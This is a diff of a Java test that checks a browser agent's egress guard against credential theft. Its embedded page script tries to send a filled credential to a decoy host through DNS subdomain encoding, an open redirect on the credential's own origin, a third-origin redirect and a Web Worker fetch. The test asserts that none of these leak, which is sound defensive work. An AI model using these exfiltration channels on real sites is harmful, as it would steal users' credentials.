@@ -39,13 +39,13 @@ import org.junit.jupiter.api.Test;
 
 /**
  * The egress guard on real Chromium: a login page on the credential's own origin (127.0.0.1) reads
- * the filled credential and tries thirteen ways to send it to a decoy on a second admitted origin
+ * the filled credential and tries fourteen ways to send it to a decoy on a second admitted origin
  * (127.0.0.2, also reached as {@code *.decoy.test} through the test's resolver), one of them
- * through a redirect on a third (127.0.0.3). Without a secret the same page delivers a harmless
- * value to the decoy on every channel, so the channels work; with the credential filled the decoy
- * gets no byte of it in any encoding, the agent sees page events naming the decoy and the
- * credential's reference, the journal records them, and the credential still reaches its own origin
- * when the form is submitted there.
+ * through a redirect on a third (127.0.0.3), one through an open redirect of its own origin.
+ * Without a secret the same page delivers a harmless value to the decoy on every channel, so the
+ * channels work; with the credential filled the decoy gets no byte of it in any encoding, the agent
+ * sees page events naming the decoy and the credential's reference, the journal records them, and
+ * the credential still reaches its own origin when the form is submitted there.
  */
 class ExfiltrationCanaryTest {
   static final String SECRET =
@@ -66,7 +66,8 @@ class ExfiltrationCanaryTest {
           "/css",
           "/sub",
           "/redirected",
-          "/worker");
+          "/worker",
+          "/bounced");
 
   static final String HOSTILE =
       """
@@ -119,13 +120,9 @@ class ExfiltrationCanaryTest {
           document.head.appendChild(st);
         });
         const h = hex(s);
-        attempt(() => fetch('http://' + h.slice(0, 40) + '.' + h.slice(40) + '.decoy.test:DPORT/sub', {mode: 'no-cors'}));
+        attempt(() => fetch('http://' + h.slice(0, 20) + '.' + h.slice(20) + '.decoy.test:DPORT/sub', {mode: 'no-cors'}));
+        attempt(() => fetch('/bounce?to=' + encodeURIComponent(D + '/bounced?p=' + q), {mode: 'no-cors'}));
         attempt(() => fetch(T + '/redirect?to=' + encodeURIComponent(D + '/redirected?p=' + q), {mode: 'no-cors'}));
-        attempt(() => {
-          const l = document.createElement('link'); l.rel = 'preconnect';
-          l.href = 'https://' + h.slice(0, 40) + '.' + h.slice(40) + '.decoy.test:DPORT';
-          document.head.appendChild(l);
-        });
         attempt(() => new Worker(URL.createObjectURL(new Blob(
           ["fetch('" + D + "/worker?p=" + q + "', {mode: 'no-cors'}).catch(() => {})"]))));
       }
@@ -136,6 +133,10 @@ class ExfiltrationCanaryTest {
   static Sink decoy;
   static final List<String> posted = new CopyOnWriteArrayList<>();
   static final List<byte[]> thirdReceived = new CopyOnWriteArrayList<>();
+
+  /** Every name the policy proxy resolved: a name server would have seen them. */
+  static final List<String> resolved = new CopyOnWriteArrayList<>();
+
   static DefaultBrowserRuntime runtime;
   static PlaywrightProvider provider;
   static List<Tool> tools;
@@ -164,6 +165,17 @@ class ExfiltrationCanaryTest {
             .replace("DPORT", String.valueOf(decoy.port()))
             .replace("TPORT", String.valueOf(third.getAddress().getPort()));
     site.createContext("/login", exchange -> LocalBrowser.respond(exchange, page));
+    // An open redirect of the credential's own origin: the secret goes to it, and on from it.
+    site.createContext(
+        "/bounce",
+        exchange -> {
+          String to =
+              URLDecoder.decode(
+                  exchange.getRequestURI().getRawQuery().substring(3), StandardCharsets.UTF_8);
+          exchange.getResponseHeaders().set("Location", to);
+          exchange.sendResponseHeaders(302, -1);
+          exchange.close();
+        });
     site.createContext(
         "/session",
         exchange -> {
@@ -209,6 +221,7 @@ class ExfiltrationCanaryTest {
             settings.playwright(),
             Optional.empty(),
             host -> {
+              resolved.add(host);
               if (host.equals("decoy.test") || host.endsWith(".decoy.test")) {
                 return List.of(InetAddress.getByName("127.0.0.2"));
               }
@@ -317,6 +330,9 @@ class ExfiltrationCanaryTest {
         events.contains("a request to http://127.0.0.3:" + third.getAddress().getPort()), events);
 
     assertEquals(Set.of(), decoy.channelsCarrying(SECRET), "the decoy got no byte of it");
+    assertTrue(
+        resolved.stream().noneMatch(n -> Sink.carries(n.getBytes(StandardCharsets.UTF_8), SECRET)),
+        "no name carrying it was resolved: " + resolved);
     assertTrue(
         thirdReceived.stream().noneMatch(b -> Sink.carries(b, SECRET)),
         "the third got no byte of it");
